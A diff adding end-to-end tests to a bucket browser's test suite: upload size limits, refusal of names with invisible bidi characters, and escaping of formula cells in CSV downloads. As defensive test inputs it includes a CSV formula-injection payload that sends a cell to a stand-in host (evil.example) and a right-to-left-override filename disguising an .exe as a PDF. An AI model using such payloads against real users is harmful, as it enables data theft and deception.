@@ -1,9 +1,11 @@
 // The bucket browser as a person uses it, on the embedded object store with its demo files:
 // browse, preview a CSV and a Parquet file, upload with progress (and by drag and drop),
-// download, delete.
+// download, delete; and what it refuses to write (files over a bucket's limit, names with
+// invisible characters), plus a CSV download whose formula cells arrive escaped.
 import { readFileSync } from "node:fs";
 import { expect, test, type Page } from "@playwright/test";
 import { createUser, SIGNED_OUT, signIn } from "./helpers";
+import { BASE_URL } from "./env";
 
 /** A folder name no other run against the same server uses. */
 const uniqueFolder = (label: string) => `${label}-${Date.now().toString(36)}-${Math.random().toString(36).slice(2, 6)}`;
@@ -161,4 +163,59 @@ test("a bucket or file that does not exist is a 404 page", async ({ page }) => {
   const missingFile = await page.goto("/buckets/raw/blob/flights/missing.parquet");
   expect(missingFile?.status()).toBe(404);
   await expect(page.getByRole("heading", { name: "No such bucket or file" })).toBeVisible();
+});
+
+test("a file over the bucket's upload limit is refused in the browser, before a byte is sent, and by the server", async ({ page }) => {
+  // playwright.config.ts gives "archive" a 1 MB limit.
+  const uploadsSent: string[] = [];
+  page.on("request", (r) => void (r.url().includes("/api/storage/upload") && uploadsSent.push(r.url())));
+  await page.goto("/buckets/archive");
+  await expect(page.getByTestId("upload-limit")).toHaveText("Files up to 1 MB");
+  const name = `${uniqueFolder("too-big")}.bin`;
+  await page.getByTestId("upload-input").setInputFiles([{ name, mimeType: "application/octet-stream", buffer: Buffer.alloc(2 * 1024 * 1024, 1) }]);
+  const uploads = page.getByRole("region", { name: "Uploads" });
+  await expect(uploads.getByText("This file is 2 MB; bucket archive accepts uploads up to 1 MB.")).toBeVisible();
+  await expect(uploads.getByText("Bucket archive accepts files up to 1 MB.")).toBeVisible();
+  await expect(uploads.locator('[data-upload-status="refused"]')).toHaveCount(1);
+  await expect(uploads.getByRole("button", { name: "Retry" })).toHaveCount(0);
+  expect(uploadsSent).toEqual([]);
+
+  // A client that skips the page's check gets the same answer from the server, and nothing is stored.
+  const sneaky = await page.request.put(`/api/storage/upload?bucket=archive&key=${encodeURIComponent(name)}`, {
+    data: Buffer.alloc(2 * 1024 * 1024, 1),
+    headers: { "content-type": "application/octet-stream", origin: BASE_URL },
+  });
+  expect(sneaky.status()).toBe(413);
+  expect((await sneaky.json()).error).toBe("This file is 2 MB; bucket archive accepts uploads up to 1 MB.");
+  await page.reload();
+  await expect(page.getByRole("link", { name, exact: true })).toHaveCount(0);
+});
+
+test("a file whose name hides a right-to-left override is refused, naming the character", async ({ page }) => {
+  const folder = uniqueFolder("e2e-bidi");
+  await page.goto("/buckets/staging");
+  await page.getByRole("button", { name: "New folder" }).click();
+  await page.getByLabel("Folder name").fill(folder);
+  await page.getByRole("button", { name: "Create folder" }).click();
+  await expect(page.getByRole("heading", { level: 1, name: folder })).toBeVisible();
+
+  // Shown as "invoiceexe.pdf" by any bidi-aware display, but really an .exe.
+  await page.getByTestId("upload-input").setInputFiles([{ name: "invoice\u202Efdp.exe", mimeType: "application/octet-stream", buffer: Buffer.from("MZ") }]);
+  const uploads = page.getByRole("region", { name: "Uploads" });
+  await expect(uploads.getByText(`File names may not contain the invisible right-to-left override U+202E (in "${folder}/invoice[U+202E]fdp.exe").`)).toBeVisible();
+  await expect(page.getByText("This folder is empty")).toBeVisible();
+
+  // A folder name with one is refused too.
+  await page.getByRole("button", { name: "New folder" }).click();
+  await page.getByLabel("Folder name").fill("reports\u2067");
+  await page.getByRole("button", { name: "Create folder" }).click();
+  await expect(page.getByText(/Folder names may not contain the invisible right-to-left isolate U\+2067/)).toBeVisible();
+});
+
+test("a CSV download escapes cells a spreadsheet would run as formulas, and keeps numbers", async ({ page }) => {
+  await page.goto("/buckets");
+  const sql = `SELECT '=HYPERLINK("http://evil.example/?"&A1,"open")' AS link, '@SUM(1)' AS at, -3 AS n, '-3+A1' AS s`;
+  const response = await page.request.post("/api/sql/download", { data: { engineId: "duckdb", sql, format: "csv" }, headers: { origin: BASE_URL } });
+  expect(response.status()).toBe(200);
+  expect(await response.text()).toBe(`link,at,n,s\r\n"'=HYPERLINK(""http://evil.example/?""&A1,""open"")","'@SUM(1)",-3,"'-3+A1"\r\n`);
 });
